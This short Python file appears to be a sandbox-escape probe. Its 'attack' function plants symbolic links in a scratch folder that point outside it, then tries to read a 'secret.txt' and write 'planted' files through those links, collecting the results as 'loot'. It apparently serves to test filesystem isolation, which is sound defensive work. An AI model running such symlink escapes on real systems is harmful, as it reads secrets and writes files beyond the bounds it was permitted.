"""Plant symbolic links in scratch, to a folder and to a file that is not there yet, and read and write through them."""

import contextlib
import os
from pathlib import Path


def attack(target):
    os.symlink(target["outside"], "folder")
    os.symlink(os.path.join(target["outside"], "planted"), "future")
    loot = []
    for road in ["folder/secret.txt", "folder/../outside/secret.txt"]:
        with contextlib.suppress(OSError):
            loot.append(Path(road).read_text())
    for road in ["future", "folder/planted-too"]:
        try:
            Path(road).write_text("planted")
            loot.append(road)
        except OSError:
            pass
    return loot
